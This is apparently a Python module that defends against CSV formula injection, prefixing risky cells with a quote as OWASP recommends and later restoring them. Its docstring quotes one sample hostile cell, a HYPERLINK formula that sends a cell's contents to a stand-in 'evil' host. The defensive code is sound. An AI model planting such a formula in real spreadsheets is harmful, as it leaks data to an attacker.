"""CSV cells a person opens in a spreadsheet: formula injection neutralised, as OWASP recommends.

A recipients file comes from outside, and the summary copies its cells into
``not_sent.csv`` / ``unconfirmed.csv``, which someone opens in Excel or
LibreOffice. A cell such as ``=HYPERLINK("http://evil/?"&A1)`` would run there
as a formula. OWASP ("CSV Injection") says: prefix every cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return with a single quote, and
quote every cell. That includes harmless values such as a phone number
``+34600000001`` or an amount ``-5``: a spreadsheet shows them as text, and
telling a number from a formula is exactly the guess OWASP advises against.

The reader undoes it (:func:`restore`), as a spreadsheet does with a leading
quote, so a written file can be planned again as it is ("fix and resend").
"""

from __future__ import annotations

#: Characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """``cell`` with a single quote in front when a spreadsheet would read it as a formula."""
    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell


def restore(cell: str) -> str:
    """The value :func:`neutralise` was given: a quote in front of a formula trigger is dropped."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS) else cell
